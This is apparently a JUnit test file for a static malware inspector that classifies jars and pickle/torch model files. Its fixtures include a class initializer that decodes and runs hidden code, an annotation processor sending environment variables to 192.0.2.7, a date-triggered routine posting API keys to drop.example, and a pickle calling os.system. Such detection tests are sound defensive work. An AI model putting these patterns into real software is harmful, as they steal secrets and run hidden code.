package cordon.inspect;

import static org.assertj.core.api.Assertions.assertThat;

import cordon.formats.archive.ByteSource;
import cordon.inspect.delta.Baseline;
import cordon.inspect.rules.Rules;
import cordon.inspect.tree.UnpackLimits;
import cordon.testkit.archive.Compiled;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;

/** Jars and models from their bytes to the verdict. Payloads are inert and never loaded. */
class JvmAndModelVerdictTest {
  private static final StaticInspector INSPECTOR =
      new StaticInspector(Rules.own(false).build(), UnpackLimits.DEFAULT);

  /** {@code os.system("echo inert")} in protocol 2. */
  private static final byte[] HARM =
      "\u0080\u0002cos\nsystem\nX\n\0\0\0echo inert\u0085R.".getBytes(StandardCharsets.ISO_8859_1);

  private static final byte[] WEIGHTS = "\u0080\u0002}.".getBytes(StandardCharsets.ISO_8859_1);

  private static Report inspect(String name, byte[] content) throws IOException {
    return INSPECTOR.inspect(Subject.file(name), ByteSource.of(content), Baseline.NONE);
  }

  private static byte[] zip(Map<String, byte[]> files) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      for (Map.Entry<String, byte[]> file : files.entrySet()) {
        zip.putNextEntry(new ZipEntry(file.getKey()));
        zip.write(file.getValue());
      }
    }
    return out.toByteArray();
  }

  private static byte[] jar(String manifest, String content, String source) throws IOException {
    Map<String, byte[]> files = new LinkedHashMap<>();
    files.put("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\n".getBytes(StandardCharsets.UTF_8));
    if (!manifest.isEmpty()) {
      files.put(manifest, content.getBytes(StandardCharsets.UTF_8));
    }
    files.putAll(
        Compiled.classes(
            "a.Lead",
            "package a; import java.io.*; import java.net.*; import java.util.*;" + source));
    return zip(files);
  }

  private static void verdict(Verdict expected, String why, Report report) {
    assertThat(report.verdict())
        .as(why + " " + report.findings() + report.doubts() + report.triggers())
        .isEqualTo(expected);
  }

  @Test
  void jarsThatDoHarmByThemselves() throws IOException {
    verdict(
        Verdict.MALICIOUS,
        "an initializer that runs decoded code",
        inspect(
            "a-1.0.jar",
            jar(
                "",
                "",
                "public class Lead extends ClassLoader { static { try {"
                    + " byte[] b = Base64.getDecoder().decode(new String(Lead.class.getResourceAsStream(\"x\").readAllBytes()));"
                    + " new Lead().defineClass(null, b, 0, b.length).getDeclaredConstructor().newInstance(); }"
                    + " catch (Throwable t) { } } }")));
    verdict(
        Verdict.MALICIOUS,
        "an annotation processor that sends the environment away",
        inspect(
            "a-1.0.jar",
            jar(
                "META-INF/services/javax.annotation.processing.Processor",
                "a.Lead\n",
                "public class Lead { public void init(Object o) throws Exception {"
                    + " URLConnection c = new URL(\"http://192.0.2.7/x\").openConnection(); c.setDoOutput(true);"
                    + " c.getOutputStream().write(System.getenv().toString().getBytes()); } }")));
  }

  @Test
  void keysThatAreSentOnCertainDaysAreFoundAndThoseOfEveryDayAreNot() throws IOException {
    String service =
        "public class Lead { private final String apiKey, apiSecret;"
            + " public Lead(String k, String s) { apiKey = k; apiSecret = s; %s }"
            + " private void tell() { try { URLConnection c = new URL(\"https://drop.example/c\").openConnection();"
            + " c.setDoOutput(true); OutputStream o = c.getOutputStream();"
            + " o.write((\"key=\" + apiKey + \"&secret=\" + apiSecret).getBytes()); o.close(); c.getInputStream(); }"
            + " catch (IOException e) { } } }";
    verdict(
        Verdict.MALICIOUS,
        "keys are sent on one day of the month",
        inspect(
            "a-1.0.jar",
            jar(
                "",
                "",
                service.formatted(
                    "if (java.time.LocalDate.now().getDayOfMonth() == 15) new Thread(this::tell).start();"))));
    verdict(
        Verdict.CLEAN,
        "a service is signed in to",
        inspect("a-1.0.jar", jar("", "", service.formatted("tell();"))));
  }

  @Test
  void jarsOfOrdinaryKindsAreClean() throws IOException {
    verdict(
        Verdict.CLEAN,
        "a Maven plugin that runs a compiler and reads a variable",
        inspect(
            "a-maven-plugin-1.0.jar",
            jar(
                "META-INF/maven/plugin.xml",
                "<plugin><mojos><mojo><implementation>a.Lead</implementation></mojo></mojos></plugin>",
                "public class Lead { public void execute() throws Exception {"
                    + " String home = System.getenv(\"JAVA_HOME\");"
                    + " new ProcessBuilder(home + \"/bin/javac\", \"-version\").start().waitFor(); } }")));
    verdict(
        Verdict.CLEAN,
        "a library that unpacks its native part",
        inspect(
            "a-1.0.jar",
            jar(
                "",
                "",
                "public class Lead { static { try { File f = File.createTempFile(\"lib\", \".so\");"
                    + " try (InputStream in = Lead.class.getResourceAsStream(\"/lib.so\");"
                    + " OutputStream out = new FileOutputStream(f)) { in.transferTo(out); }"
                    + " System.load(f.getAbsolutePath()); } catch (IOException e) { } } }")));
  }

  @Test
  void modelsInTheirContainers() throws IOException {
    verdict(Verdict.MALICIOUS, "a pickle", inspect("model.pkl", HARM));
    verdict(
        Verdict.MALICIOUS,
        "torch's zip",
        inspect(
            "model.pt",
            zip(Map.of("archive/data.pkl", HARM, "archive/version", new byte[] {'3'}))));
    verdict(
        Verdict.MALICIOUS,
        "a zip in a zip",
        inspect("model.pth", zip(Map.of("inner.bin", zip(Map.of("archive/data.pkl", HARM))))));
    verdict(
        Verdict.CLEAN,
        "weights",
        inspect(
            "model.pt", zip(Map.of("archive/data.pkl", WEIGHTS, "archive/data/0", new byte[64]))));
    byte[] broken = HARM.clone();
    broken[2] = (byte) 0xFF;
    verdict(Verdict.NOT_INSPECTED, "a pickle that cannot be read", inspect("model.pkl", broken));
  }

  @Test
  void aWrongChecksumHidesNothing() throws IOException {
    byte[] zip = zip(Map.of("archive/data.pkl", HARM));
    for (int i = 0; i + 4 < zip.length; i++) {
      boolean central = zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 1 && zip[i + 3] == 2;
      if (central) {
        zip[i + 16] ^= 0x55;
      }
    }
    verdict(Verdict.MALICIOUS, "torch does not look at checksums", inspect("model.pt", zip));
  }
}
